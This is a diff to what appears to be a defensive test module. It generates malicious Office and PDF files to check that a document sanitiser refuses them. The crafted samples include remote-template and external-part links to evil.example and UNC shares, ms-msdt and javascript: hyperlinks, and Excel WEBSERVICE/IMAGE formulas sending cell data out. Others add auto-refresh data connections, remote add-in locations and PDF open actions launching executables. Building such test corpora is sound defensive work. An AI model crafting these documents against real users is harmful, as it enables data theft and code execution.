@@ -409,7 +409,9 @@ FAR = ("http://evil.example/a", "https://evil.example/a.png", "file://evil/share
 
 @attack("links", refusals.LinkedContent, *OFFICE)
 def a_part_from_outside(content: bytes, random: Random) -> bytes:
-    kind = random.choice(["image", "oleObject", "frame", "subDocument", "video", "audio", "mailMergeSource", "package"])
+    kind = random.choice(["image", "oleObject", "frame", "subDocument", "video", "audio", "mailMergeSource", "package",
+                          "mailMergeHeaderSource", "recipientData", "transform", "media", "model3d", "slideUpdateUrl",
+                          "htmlPubSaveAs", "aFChunk", "connections", "queryTable", "font"])  # fmt: skip
     return files.related(content, kind, random.choice(FAR))
 
 
@@ -418,12 +420,14 @@ def a_part_from_outside_that_says_it_is_inside(content: bytes, random: Random) -
     return files.related(content, "image", random.choice(FAR), external=False)
 
 
-@attack("links", refusals.LinkedContent, WORD)
+ODD = ("javascript:alert(1)", "java&#9;script:alert(1)", "\u200bJavaScript:x", "vbscript:x", "data:text/html,x",
+       "ms-msdt:/id%20PCWDiagnostic", "search-ms:query=a", "mhtml:http://a!b", "shell:startup", "ms-word:ofe|u|http://a",
+       "\\\\evil\\share", "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil")  # fmt: skip
+
+
+@attack("links", refusals.OddLink, *OFFICE)
 def a_link_that_acts(content: bytes, random: Random) -> bytes:
-    place = random.choice(
-        ["javascript:alert(1)", "ms-msdt:/id%20PCWDiagnostic", "search-ms:query=a", "mhtml:http://a!b"]
-    )
-    return files.related(content, "hyperlink", place)
+    return files.related(content, "hyperlink", random.choice(ODD))
 
 
 @attack("links", refusals.RemoteTemplate, WORD)
@@ -485,8 +489,18 @@ def a_simple_dde_field_in_a_header(content: bytes, _random: Random) -> bytes:
 def a_field_that_fetches(_content: bytes, random: Random) -> bytes:
     return files.with_field(random.choice([
         'INCLUDETEXT "\\\\\\\\evil\\\\a.docx"', 'INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMAT',
-        "INCLUDEPICTURE \\\\\\\\evil\\\\a.png", "LINK Excel.Sheet.12 a b", "IMPORT http://evil.example/a.png",
+        "INCLUDEPICTURE \\\\\\\\evil\\\\a.png", 'INCLUDEPICTURE \\d "http://evil.example/a.png"',
+        'DATABASE \\d "http://evil.example/a"', "INCLUDE http://evil.example/a.docx", "RD http://evil.example/a.docx",
+        "LINK Excel.Sheet.12 a b", "IMPORT http://evil.example/a.png",
     ]))  # fmt: skip
+
+
+@attack("fields", refusals.OddLink, WORD)
+def a_field_whose_link_acts(_content: bytes, random: Random) -> bytes:
+    place = random.choice([place for place in ODD if "&" not in place])
+    return files.with_field(
+        random.choice(['HYPERLINK "{}"', 'HYPERLINK \\t "_blank" "{}"', 'HYPERLINK \\n "{}" \\o "a"']).format(place)
+    )
 
 
 def _sheet(content: bytes, formula: str) -> bytes:
@@ -527,9 +541,169 @@ def a_dde_name(content: bytes, _random: Random) -> bytes:
     return files.packed({**made, "xl/workbook.xml": workbook})
 
 
-@attack("formulas", refusals.LinkedWorkbook, EXCEL)
+CALLS = ['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'RTD("a.b",,"c")', '_xlfn.IMAGE("http://evil.example/a")',
+         'IMAGE ("http://evil.example/a")', "1+image(A1)", '_xlfn.FILTERXML(A1,"//a")', '_xlfn.STOCKHISTORY("MSFT",A1)',
+         'CUBEVALUE("a","[Measures].[b]")', 'CUBESETCOUNT(CUBESET("a","b"))', '_xlfn.TRANSLATE("a","en","th")',
+         '_xlfn._xlws.PY(0,0)', '_xlfn.COPILOT("a")', '_xlfn.FIELDVALUE(A1,"Price")', 'CALL("a","b","c")',
+         'REGISTER.ID("a","b")', 'IMPORTXML("http://evil.example","//a")', '_xlfn.IMPORTTEXT("http://evil.example/a")',
+         "I&#77;AGE(A1)", "IM<!-- -->AGE(A1)", "<![CDATA[IMAGE(A1)]]>",
+         # What a name or a text is taken for does not hide a call.
+         "'a\"b'!A1+WEBSERVICE(\"x\")", "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])", '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip
+
+
+@attack("formulas", refusals.FetchesData, EXCEL)
 def a_formula_that_calls_out(content: bytes, random: Random) -> bytes:
-    return _sheet(content, random.choice(['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'RTD("a.b",,"c")']))
+    return _sheet(content, random.choice(CALLS))
+
+
+@attack("formulas", refusals.FetchesData, EXCEL)
+def a_formula_that_calls_out_in_another_coding(content: bytes, random: Random) -> bytes:
+    made = files.parts(_sheet(content, random.choice(CALLS[:4])))
+    whole = '<?xml version="1.0" encoding="UTF-16"?>' + made["xl/worksheets/sheet1.xml"].decode().rpartition("?>")[2]
+    return files.packed({**made, "xl/worksheets/sheet1.xml": whole.encode("utf-16")})
+
+
+@attack("formulas", refusals.FetchesData, EXCEL)
+def a_call_outside_of_cells(content: bytes, random: Random) -> bytes:
+    call = random.choice(CALLS[:4])
+    where = random.choice([
+        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
+        "</conditionalFormatting>",
+        '<dataValidations><dataValidation sqref="A1"><formula1>{}</formula1></dataValidation></dataValidations>',
+        '<extLst><ext><xm:f xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">{}</xm:f></ext></extLst>',
+    ])  # fmt: skip
+    return files.changed(content, "xl/worksheets/sheet1.xml", "</worksheet>", where.format(call) + "</worksheet>")
+
+
+@attack("formulas", refusals.FetchesData, EXCEL)
+def a_name_that_calls_out(content: bytes, random: Random) -> bytes:
+    name = f'<definedNames><definedName name="a">{random.choice(CALLS[:4])}</definedName></definedNames></workbook>'
+    made = files.parts(content)
+    workbook = made["xl/workbook.xml"].replace(b"<definedNames />", b"").replace(b"</workbook>", name.encode())
+    return files.packed({**made, "xl/workbook.xml": workbook})
+
+
+@attack("formulas", refusals.OddLink, EXCEL)
+def a_formula_whose_link_acts(content: bytes, random: Random) -> bytes:
+    place = random.choice([place for place in ODD if "&" not in place])
+    return _sheet(content, random.choice(['HYPERLINK("{}","a")', 'IF(1,HYPERLINK( "{}"))']).format(place))
+
+
+# --- what a workbook fetches by itself -------------------------------------------------------------------------------
+
+SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+YES = ("1", "true", " true ", "&#49;")
+
+
+def _in_some_coding(text: str, random: Random) -> bytes:
+    return text.encode() if random.random() < 0.5 else f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
+def a_connection_that_refreshes(content: bytes, random: Random) -> bytes:
+    when = random.choice([*(f'refreshOnLoad="{yes}"' for yes in YES), 'interval="5"'])
+    part = (
+        f'<connections {SHEET}><connection id="1" type="4" {when}><webPr url="http://evil"/></connection></connections>'
+    )
+    name, kind = random.choice(
+        [("xl/connections.xml", OF[EXCEL] + ".connections+xml"), ("xl/a.xml", "application/xml")]
+    )
+    made = files.added(content, name, _in_some_coding(part, random), kind)
+    return files.related(made, "connections", name.removeprefix("xl/"), external=False)
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
+def a_query_that_refreshes(content: bytes, random: Random) -> bytes:
+    part = f'<queryTable {SHEET} name="a" connectionId="1" refreshOnLoad="{random.choice(YES)}"/>'
+    kind = OF[EXCEL] + ".queryTable+xml"
+    return files.added(content, "xl/queryTables/queryTable1.xml", _in_some_coding(part, random), kind)
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
+def a_pivot_table_that_asks_elsewhere(content: bytes, random: Random) -> bytes:
+    part = (
+        f'<x:pivotCacheDefinition {SHEET.replace("xmlns", "xmlns:x")} refreshOnLoad="{random.choice(YES)}">'
+        '<x:cacheSource type="external" connectionId="1"/></x:pivotCacheDefinition>'
+    )
+    kind = OF[EXCEL] + ".pivotCacheDefinition+xml"
+    return files.added(content, "xl/pivotCache/pivotCacheDefinition1.xml", _in_some_coding(part, random), kind)
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
+def a_power_query(content: bytes, random: Random) -> bytes:
+    part = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
+    return files.added(content, random.choice(["customXml/item1.xml", "xl/a.xml"]), _in_some_coding(part, random))
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
+def a_sheet_that_publishes_itself(content: bytes, random: Random) -> bytes:
+    item = '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\evil\\a" autoRepublish="1"/></webPublishItems></worksheet>'  # noqa: E501
+    return files.changed(content, "xl/worksheets/sheet1.xml", "</worksheet>", item)
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
+def data_of_a_linked_kind(content: bytes, random: Random) -> bytes:
+    if random.random() < 0.5:
+        kind = "application/vnd.ms-excel.rdrichvaluewebimage+xml"
+        return files.added(content, "xl/richData/rdRichValueWebImage.xml", b"<webImagesSrd/>", kind)
+    kind = random.choice(["_linkedentity2", "_linkedentitycore", "_webimage"])
+    part = f'<rvStructures><s t="{kind}"><k n="a" t="s"/></s></rvStructures>'
+    name = "xl/richData/rdrichvaluestructure.xml"
+    return files.added(content, name, part.encode(), "application/vnd.ms-excel.rdrichvaluestructure+xml")
+
+
+@attack("fetching", refusals.LinkedContent, WORD)
+def a_mail_merge(content: bytes, random: Random) -> bytes:
+    said = random.choice(
+        ['<w:connectString w:val="Provider=x;Data Source=//evil/a"/>', '<w:udl w:val="//evil/a.udl"/>']
+    )
+    made = files.parts(content)
+    name = next(name for name in made if name.endswith("word/settings.xml"))
+    settings = made[name].replace(b"</w:settings>", f"<w:mailMerge>{said}</w:mailMerge></w:settings>".encode())
+    return files.packed({**made, name: settings})
+
+
+@attack("fetching", refusals.LinkedContent, WORD)
+def a_schema_from_elsewhere(content: bytes, random: Random) -> bytes:
+    library = f'<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="a" sl:{random.choice(["manifestLocation", "schemaLocation"])}="http://evil.example/a"/></sl:schemaLibrary></w:settings>'  # noqa: E501
+    return files.changed(content, "word/settings.xml", "</w:settings>", library)
+
+
+@attack("fetching", refusals.LinkedContent, WORD, EXCEL)
+def a_drawing_of_vml_filled_from_elsewhere(content: bytes, random: Random) -> bytes:
+    _suffix, folder = folder_of(content)
+    kind = random.choice(["imagedata", "fill"])
+    drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:{kind} src="{random.choice(FAR)}"/><br></v:shape></xml>'  # noqa: E501
+    return files.added(content, f"{folder}/drawings/vmlDrawing1.vml", drawing.encode())
+
+
+# --- add-ins ---------------------------------------------------------------------------------------------------------
+
+
+@attack("add-ins", refusals.AddIn, *OFFICE)
+def a_web_extension(content: bytes, random: Random) -> bytes:
+    part = b'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>'
+    if random.random() < 0.5:
+        return files.added(content, "a/webextension1.xml", part, "application/vnd.ms-office.webextension+xml")
+    made = files.added(content, "a/b.xml", part)
+    kind = random.choice(["webextension", "webextensiontaskpanes", "ui/extensibility", "ui/userCustomization"])
+    return files.related(made, kind, "/a/b.xml", external=False)
+
+
+@attack("add-ins", refusals.AddIn, *OFFICE)
+def a_customisation_loaded_from_elsewhere(content: bytes, random: Random) -> bytes:
+    name = random.choice(["_AssemblyLocation", "_AssemblyName", "_assemblylocation"])
+    part = f'<Properties><property fmtid="a" pid="2" name="{name}"><lpwstr>http://evil.example</lpwstr></property></Properties>'
+    kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
+    return files.added(content, "docProps/custom.xml", part.encode(), kind)
+
+
+@attack("actions", refusals.ActionProgram, SLIDES)
+def a_page_opened_by_the_pointer_alone(content: bytes, random: Random) -> bytes:
+    made = files.related(content, "hyperlink", "http://evil.example/a")
+    event = random.choice(["hlinkHover", "hlinkMouseOver"])
+    link = f'<a:rPr><a:{event} xmlns:r="{files.RELATIONS[:-1]}" r:id="rIdX"/></a:rPr><a:t>'
+    return files.changed(made, "ppt/slides/slide1.xml", "<a:t>", link)
 
 
 @attack("actions", refusals.ActionProgram, SLIDES)
@@ -761,6 +935,68 @@ def a_document_on_another_machine(document: pikepdf.Pdf, random: Random) -> None
     place = String(random.choice(["\\\\evil\\a.pdf", "//evil/a.pdf", "http://evil.example/a.pdf"]))
     held = place if random.random() < 0.5 else Dictionary(Type=Name.Filespec, F=place)
     document.Root.OpenAction = Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit]))
+
+
+def _link(action: Dictionary) -> Array:
+    return Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)])
+
+
+@pdf_attack("pdf actions", refusals.OddLink)
+def an_address_that_acts(document: pikepdf.Pdf, random: Random) -> None:
+    place = random.choice([*ODD, "file:///C:/a.exe", "c:/a.exe"]).replace("&#9;", "\t")
+    action = Dictionary(S=Name.URI, URI=String(place))
+    where = random.randrange(4)
+    if where == 0:
+        document.Root.OpenAction = action
+    elif where == 1:
+        document.pages[0].obj.Annots = _link(document.make_indirect(action))
+    elif where == 2:
+        document.pages[0].obj.Annots = _link(Dictionary(S=Name.URI, URI=document.make_indirect(String(place))))
+    else:
+        document.Root.URI = Dictionary(Base=String(place))
+
+
+def _doing(random: Random) -> Dictionary:
+    return random.choice([
+        Dictionary(S=Name.URI, URI=String("https://evil.example/")), Dictionary(S=Name.GoToR, F=String("a.pdf")),
+        Dictionary(S=Name.Thread, F=String("a.pdf")), Dictionary(S=Name.Named, N=Name.Print),
+        Dictionary(S=Name.Named, N=Name.SaveAs), Dictionary(S=Name.Unheard),
+    ])  # fmt: skip
+
+
+@pdf_attack("pdf actions", refusals.PdfByItself)
+def something_done_at_opening(document: pikepdf.Pdf, random: Random) -> None:
+    more = [Dictionary(S=Name.Hide), Dictionary(S=Name.Named, N=Name.LastPage)]
+    action = random.choice([_doing(random), *more])
+    for _level in range(random.randrange(3)):
+        action = Dictionary(S=Name.GoTo, D=Array([0]), Next=random.choice([action, Array([action])]))
+    document.Root.OpenAction = document.make_indirect(action) if random.random() < 0.5 else action
+
+
+@pdf_attack("pdf actions", refusals.PdfByItself)
+def something_done_for_an_event(document: pikepdf.Pdf, random: Random) -> None:
+    page = document.pages[0].obj
+    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))])
+    place = random.choice([document.Root, page, page.Annots[0]])
+    place.AA = Dictionary(**{random.choice(["O", "C", "WC", "DP", "PO", "PV", "E", "X", "Fo"]): _doing(random)})
+
+
+@pdf_attack("pdf actions", refusals.PdfByItself)
+def something_done_behind_a_click(document: pikepdf.Pdf, random: Random) -> None:
+    document.pages[0].obj.Annots = _link(Dictionary(S=Name.GoTo, D=Array([0]), Next=_doing(random)))
+
+
+@pdf_attack("pdf actions", refusals.PdfByItself)
+def a_chain_that_ends_in_itself(document: pikepdf.Pdf, random: Random) -> None:
+    action = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([0])))
+    action.Next = action
+    document.Root.OpenAction = action
+
+
+@pdf_attack("pdf actions", refusals.LinkedContent)
+def a_page_of_another_file_drawn(document: pikepdf.Pdf, random: Random) -> None:
+    reference = Dictionary(F=String("//evil/a.pdf"), Page=0)
+    document.Root.Extra = document.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, Ref=reference)
 
 
 @pdf_attack("pdf actions", refusals.LinkedContent)
